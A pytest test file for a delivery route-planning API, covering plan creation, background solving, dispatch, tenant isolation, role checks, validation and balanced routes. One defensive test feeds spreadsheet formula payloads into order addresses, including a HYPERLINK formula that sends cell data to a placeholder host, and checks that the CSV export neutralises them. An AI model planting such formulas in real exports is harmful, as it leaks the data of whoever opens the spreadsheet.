"""Plans through the API: queue, background solve with progress, read, dispatch."""

from __future__ import annotations

import time
from datetime import datetime
from pathlib import Path
from typing import Any

from fastapi.testclient import TestClient

from helpers.service import OrgUsers, make_org

SAMPLE = Path(__file__).parents[2] / "src" / "lastmile" / "data" / "sample"
DAY = "2026-11-25"


def _seed(client: TestClient, org: OrgUsers, orders_csv: str | None = None) -> None:
    vehicles = (SAMPLE / "sample_vehicles.csv").read_bytes()
    r = client.post(
        "/api/v1/vehicles/import",
        files={"file": ("v.csv", vehicles, "text/csv")},
        headers=org.dispatcher,
    )
    assert r.status_code in (200, 201), r.text
    data = orders_csv.encode() if orders_csv else (SAMPLE / "sample_day_orders.csv").read_bytes()
    r = client.post(
        f"/api/v1/orders/import?date={DAY}",
        files={"file": ("o.csv", data, "text/csv")},
        headers=org.dispatcher,
    )
    assert r.status_code in (200, 201), r.text


def _wait(client: TestClient, org: OrgUsers, plan_id: str, timeout: float = 60) -> dict[str, Any]:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        body: dict[str, Any] = client.get(f"/api/v1/plans/{plan_id}", headers=org.dispatcher).json()
        if body["status"] in ("done", "failed"):
            return body
        time.sleep(0.2)
    raise AssertionError(f"plan {plan_id} not finished after {timeout} s")


def _check_document(doc: dict[str, Any], order_ids: set[str]) -> None:
    """An independent look at the API's plan: each order once, times in order, windows kept."""
    seen: list[str] = []
    for route in doc["routes"]:
        previous = datetime.fromisoformat(route["start"]["departure"])
        for stop in route["stops"]:
            arrival, start, departure = (
                datetime.fromisoformat(stop[k]) for k in ("arrival", "start", "departure")
            )
            assert previous <= arrival <= start <= departure
            previous = departure
            if stop["kind"] == "order":
                seen.append(stop["order_id"])
                if stop["windows"]:
                    assert any(
                        datetime.fromisoformat(a) <= start <= datetime.fromisoformat(b)
                        for a, b in stop["windows"]
                    )
        assert previous <= datetime.fromisoformat(route["end"]["arrival"])
    seen.extend(u["order_id"] for u in doc["unassigned"])
    assert sorted(seen) == sorted(order_ids)


def test_plan_a_day_then_dispatch(client: TestClient) -> None:
    org = make_org(client, "Meal kits")
    _seed(client, org)
    created = client.post(
        "/api/v1/plans", json={"date": DAY, "time_limit_s": 1}, headers=org.dispatcher
    )
    assert created.status_code == 202
    plan = _wait(client, org, created.json()["id"])
    assert plan["status"] == "done", plan["error"]
    assert plan["progress"] == 1.0
    orders = client.get(f"/api/v1/orders?date={DAY}&limit=500", headers=org.dispatcher).json()
    ids = {o["id"] for o in orders["items"]}
    assert len(ids) == 150
    _check_document(plan["document"], ids)
    assert plan["totals"]["orders"] == 150
    # plan_day's verdict travels with the plan (core.planning.day)
    assert plan["document"]["check"] == {"ok": True, "violations": []}
    planned = client.get(
        f"/api/v1/orders?date={DAY}&status=planned&limit=500", headers=org.dispatcher
    ).json()
    routed = {s["order_id"] for r in plan["routes"] for s in r["stops"] if s["kind"] == "order"}
    assert {o["id"] for o in planned["items"]} == routed

    dispatched = client.post(
        f"/api/v1/plans/{plan['id']}/dispatch", json={}, headers=org.dispatcher
    )
    assert dispatched.status_code == 200, dispatched.text
    assert dispatched.json()["orders_dispatched"] == len(routed)
    again = client.post(f"/api/v1/plans/{plan['id']}/dispatch", json={}, headers=org.dispatcher)
    assert again.status_code == 409
    status = client.get(
        f"/api/v1/orders?date={DAY}&status=dispatched&limit=500", headers=org.dispatcher
    ).json()
    assert status["total"] == len(routed)


def test_plan_without_orders_fails_with_a_message(client: TestClient) -> None:
    org = make_org(client, "Florist")
    vehicles = (SAMPLE / "sample_vehicles.csv").read_bytes()
    client.post(
        "/api/v1/vehicles/import",
        files={"file": ("v.csv", vehicles, "text/csv")},
        headers=org.dispatcher,
    )
    created = client.post("/api/v1/plans", json={"date": DAY}, headers=org.dispatcher)
    plan = _wait(client, org, created.json()["id"])
    assert plan["status"] == "failed" and "no orders ready" in plan["error"]


def test_plans_are_private_and_staff_only(client: TestClient) -> None:
    a = make_org(client, "Alpha")
    b = make_org(client, "Beta")
    _seed(client, a, "id,lon,lat,parcels\nA1,9.52,47.14,1\nA2,9.53,47.15,2\n")
    plan_id = client.post(
        "/api/v1/plans", json={"date": DAY, "time_limit_s": 0.5}, headers=a.dispatcher
    ).json()["id"]
    _wait(client, a, plan_id)
    assert client.get(f"/api/v1/plans/{plan_id}", headers=b.admin).status_code == 404
    assert (
        client.post(f"/api/v1/plans/{plan_id}/dispatch", json={}, headers=b.admin).status_code
        == 404
    )
    assert client.get("/api/v1/plans", headers=b.admin).json() == []
    assert client.get(f"/api/v1/plans/{plan_id}", headers=a.driver).status_code == 403
    assert client.post("/api/v1/plans", json={"date": DAY}, headers=a.driver).status_code == 403


def test_bad_plan_request_names_the_field(client: TestClient) -> None:
    org = make_org(client, "Florist")
    response = client.post(
        "/api/v1/plans", json={"date": "tomorrow", "time_limit_s": -1}, headers=org.dispatcher
    )
    assert response.status_code == 422
    fields = {e["field"] for e in response.json()["errors"]}
    assert {"date", "time_limit_s"} <= fields


def test_route_csv_neutralises_formula_cells(client: TestClient) -> None:
    """An address a spreadsheet would run as a formula reaches the route CSV as text."""
    import csv
    import io

    org = make_org(client, "Formula Co")
    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    orders = (
        "id,address,lon,lat,parcels\n"
        f'F1,"{evil.replace(chr(34), chr(34) * 2)}",9.5209,47.1410,1\n'
        "F2,@SUM(1+1),9.5300,47.1500,1\n"
        "F3,-2+3,9.5100,47.1300,1\n"
    )
    _seed(client, org, orders)
    created = client.post(
        "/api/v1/plans", json={"date": DAY, "time_limit_s": 0.5}, headers=org.dispatcher
    ).json()
    plan = _wait(client, org, created["id"])
    assert plan["status"] == "done", plan
    route = next(r for r in plan["document"]["routes"] if r["stops"])
    answer = client.get(
        f"/app/plans/{plan['id']}/export/{route['vehicle_id']}.csv", headers=org.dispatcher
    )
    assert answer.status_code == 200, answer.text
    rows = {r["external_id"]: r for r in csv.DictReader(io.StringIO(answer.text))}
    addresses = {"F1": "'" + evil, "F2": "'@SUM(1+1)", "F3": "'-2+3"}
    assert {k: rows[k]["address"] for k in rows} == {k: addresses[k] for k in rows}
    assert all(not cell.startswith(("=", "+", "@")) for r in rows.values() for cell in r.values())
    assert float(rows[next(iter(rows))]["lon"]) > 9  # numbers stay numbers


BALANCE_VEHICLES = (
    "id,name,profile,start_lon,start_lat,end_lon,end_lat,shift_start,shift_end,capacity_parcels\n"
    + "".join(
        f"VAN-{i},Van {i},van,9.5215,47.1410,9.5215,47.1410,08:00,18:00,50\n" for i in (1, 2, 3)
    )
)


def test_a_balanced_plan_shares_the_day_between_the_vans(client: TestClient) -> None:
    """13 orders, 3 vans: the cheapest day may take one van; balanced, none has more than
    5 (20 % above 4.33), every van works, and the plan still passes the document check."""
    org = make_org(client, "Florist balanced")
    r = client.post(
        "/api/v1/vehicles/import",
        files={"file": ("v.csv", BALANCE_VEHICLES.encode(), "text/csv")},
        headers=org.dispatcher,
    )
    assert r.status_code in (200, 201), r.text
    rows = "".join(
        f"B{i},Street {i} Vaduz,{9.5215 + 0.002 * (i % 5):.4f},{47.1410 + 0.002 * (i // 5):.4f},1\n"
        for i in range(13)
    )
    _seed_orders(client, org, "id,address,lon,lat,parcels\n" + rows)

    def stops_per_route(body: dict[str, Any]) -> list[int]:
        created = client.post("/api/v1/plans", json=body, headers=org.dispatcher)
        assert created.status_code == 202, created.text
        plan = _wait(client, org, created.json()["id"])
        assert plan["status"] == "done", plan["error"]
        ids = {f"B{i}" for i in range(13)}
        doc = plan["document"]
        _check_document(doc, {o["id"] for o in _orders_of_day(client, org)})
        assert {s["external_id"] for r in doc["routes"] for s in r["stops"]} >= ids - {None}
        return sorted(sum(1 for s in r["stops"] if s["kind"] == "order") for r in plan["routes"])

    cheapest = stops_per_route({"date": DAY, "time_limit_s": 1})
    balanced = stops_per_route(
        {"date": DAY, "time_limit_s": 2, "objective": "balanced", "balance_pct": 20}
    )
    assert sum(balanced) == 13 and len(balanced) == 3 and max(balanced) <= 5, balanced
    assert len(cheapest) < 3 or max(cheapest) > 5 or cheapest == balanced
    bad = client.post(
        "/api/v1/plans",
        json={"date": DAY, "objective": "fairest", "balance_pct": 500},
        headers=org.dispatcher,
    )
    assert bad.status_code == 422
    assert {e["field"] for e in bad.json()["errors"]} >= {"objective", "balance_pct"}


def _seed_orders(client: TestClient, org: OrgUsers, csv_text: str) -> None:
    r = client.post(
        f"/api/v1/orders/import?date={DAY}",
        files={"file": ("o.csv", csv_text.encode(), "text/csv")},
        headers=org.dispatcher,
    )
    assert r.status_code in (200, 201), r.text


def _orders_of_day(client: TestClient, org: OrgUsers) -> list[dict[str, Any]]:
    body: dict[str, Any] = client.get(
        f"/api/v1/orders?date={DAY}&limit=500", headers=org.dispatcher
    ).json()
    return list(body["items"])


def test_unknown_or_foreign_ids_are_refused_at_once(client: TestClient) -> None:
    """422 naming the field before anything is queued (before: 202, then a failed plan)."""
    a, b = make_org(client, "Ids A"), make_org(client, "Ids B")
    _seed(client, a)
    foreign = client.get("/api/v1/orders?limit=1", headers=a.dispatcher).json()["items"][0]["id"]
    for body in (
        {"date": DAY, "order_ids": [foreign]},
        {"date": DAY, "order_ids": ["ord_does_not_exist"]},
        {"date": DAY, "vehicle_ids": ["veh_does_not_exist"]},
    ):
        answer = client.post("/api/v1/plans", json=body, headers=b.dispatcher)
        assert answer.status_code == 422, answer.text
        assert next(iter(body.keys() - {"date"})) in answer.json()["detail"]
    assert client.get("/api/v1/plans", headers=b.dispatcher).json() == []
